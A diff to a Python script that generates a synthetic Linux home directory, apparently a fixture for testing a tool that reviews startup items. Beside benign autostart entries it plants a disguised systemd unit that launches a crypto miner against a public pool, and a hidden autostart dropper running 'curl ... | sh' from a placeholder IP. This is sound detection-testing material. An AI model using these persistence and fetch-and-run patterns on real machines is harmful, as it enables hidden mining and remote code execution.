@@ -26,6 +26,20 @@ def write(path, size):
             left -= len(chunk)
 
 
+def text(path, content, mode=0o644):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w") as f:
+        f.write(content)
+    os.chmod(path, mode)
+
+
+def enable(unit_folder, name):
+    """Enables the user unit `name` for the default target, as `systemctl --user enable` would."""
+    wants = os.path.join(unit_folder, "default.target.wants")
+    os.makedirs(wants, exist_ok=True)
+    os.symlink("../" + name, os.path.join(wants, name))
+
+
 def many(folder, count, total, name="f{:05d}", rng=None):
     """`count` files adding up to about `total` bytes, sizes varying around the mean."""
     rng = rng or random.Random(folder)
@@ -170,6 +184,34 @@ def main():
                "[Desktop Entry]\nType=Application\nName=Gone Tool\nExec=%s/Applications/Gone-1.0.AppImage\n" % h)
     if args.system:
         system(args.system)
+    # What starts with the session. Ordinary: a chat app's and a sync tool's autostart entries, a user
+    # unit for the sync daemon.
+    text(j(".config/autostart/org.example.Chat.desktop"),
+         "[Desktop Entry]\nType=Application\nName=Chat\nExec=/usr/bin/flatpak run org.example.Chat --minimized\n"
+         "X-GNOME-Autostart-enabled=true\n")
+    text(j(".config/autostart/nextcloud.desktop"),
+         "[Desktop Entry]\nType=Application\nName=Nextcloud\nExec=/usr/bin/nextcloud --background\n")
+    units = j(".config/systemd/user")
+    text(os.path.join(units, "syncthing.service"),
+         "[Unit]\nDescription=Syncthing\n[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\n"
+         "[Install]\nWantedBy=default.target\n")
+    enable(units, "syncthing.service")
+    # A coin miner: a unit named like a system helper runs a script that starts the miner on a pool.
+    miner = j(".local/share/.sysupd/sysupd")
+    write(miner, sz(6))
+    os.chmod(miner, 0o755)
+    start = j(".local/share/.sysupd/start.sh")
+    text(start, "#!/bin/sh\nexec %s -o stratum+tcp://pool.supportxmr.com:3333 -u 48aXYZ -p x "
+                "--donate-level 1 --cpu-max-threads-hint 75 >/dev/null 2>&1\n" % miner, 0o755)
+    text(os.path.join(units, "sysupd.service"),
+         "[Unit]\nDescription=System update helper\n[Service]\nExecStart=/bin/sh %s\nRestart=always\n"
+         "[Install]\nWantedBy=default.target\n" % start)
+    enable(units, "sysupd.service")
+    # A dropper: a hidden autostart entry whose script fetches code and runs it in a shell.
+    fetch = j(".local/share/gnome-updater/update.sh")
+    text(fetch, "#!/bin/sh\nsleep 30\ncurl -fsSL http://198.51.100.7/p.sh | sh\n", 0o755)
+    text(j(".config/autostart/gnome-updater.desktop"),
+         "[Desktop Entry]\nType=Application\nName=GNOME Updater\nNoDisplay=true\nExec=/bin/sh %s\n" % fetch)
     with open(j(".config/user-dirs.dirs"), "w") as f:
         for key, name in [("DESKTOP", "Desktop"), ("DOWNLOAD", "Downloads"), ("TEMPLATES", "Templates"),
                           ("PUBLICSHARE", "Public"), ("DOCUMENTS", "Documents"), ("MUSIC", "Music"),
